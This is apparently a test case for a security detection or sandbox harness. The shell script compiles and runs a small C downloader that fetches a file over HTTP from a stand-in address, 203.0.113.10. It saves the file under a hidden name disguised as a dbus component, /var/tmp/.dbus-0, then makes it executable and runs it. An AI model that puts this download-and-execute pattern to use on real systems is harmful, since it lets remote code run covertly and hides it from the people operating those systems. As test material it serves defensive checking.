#!/bin/sh
. /opt/case/case.sh

cat >/tmp/d.c <<'END'
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct addrinfo *a; char b[4096], *p; long n, head = 1; if (getaddrinfo("203.0.113.10", "80", 0, &a)) return 1;
    int s = socket(a->ai_family, SOCK_STREAM, 0); if (connect(s, a->ai_addr, a->ai_addrlen)) return 1;
    dprintf(s, "GET /programs/marker HTTP/1.0\r\n\r\n"); FILE *o = fopen("/var/tmp/.dbus-0", "wb");
    while ((n = read(s, b, sizeof b)) > 0) {
        p = b; if (head && (p = memmem(b, n, "\r\n\r\n", 4))) { p += 4; head = 0; }
        if (p) fwrite(p, 1, n - (p - b), o); }
    fclose(o); return 0;
}
END
gcc -D_GNU_SOURCE -o /tmp/d /tmp/d.c && /tmp/d
chmod 700 /var/tmp/.dbus-0 && /var/tmp/.dbus-0
test -e /tmp/reached
took_place
